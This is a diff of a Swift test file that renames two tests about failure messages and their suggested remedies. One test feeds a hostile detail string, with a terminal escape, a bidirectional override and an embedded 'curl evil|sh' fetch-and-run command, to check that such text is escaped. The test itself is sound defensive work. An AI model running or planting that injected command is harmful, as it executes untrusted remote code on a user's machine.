@@ -49,7 +49,7 @@ import Testing
         #expect(Failure(.diskFull, at: path).remedy?.description == "make room (df -h --output '/srv/a b')")
     }
 
-    @Test func whoeverMetItKnowsBetterThanItsCode() throws {
+    @Test func aFailuresOwnRemedyGoesBeforeItsCodes() throws {
         let path = Failure.Place.path(try #require(AbsolutePath("/srv/web.jwt")))
         let failure = Failure(
             .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .say("close it", run: .reload))
@@ -62,7 +62,7 @@ import Testing
 
     /// Text chosen by others stays within the message, whatever it looks like, and has no effect on a terminal.
     @Test(arguments: Failure.Code.allCases.filter(\.isReported))
-    func whatOthersChoseIsNeverARemedy(code: Failure.Code) throws {
+    func wordsOfOthersAreNeverARemedy(code: Failure.Code) throws {
         let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
         let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
         let detailed = Failure(code, at: try #require(Self.place(of: code)), detail: evil)
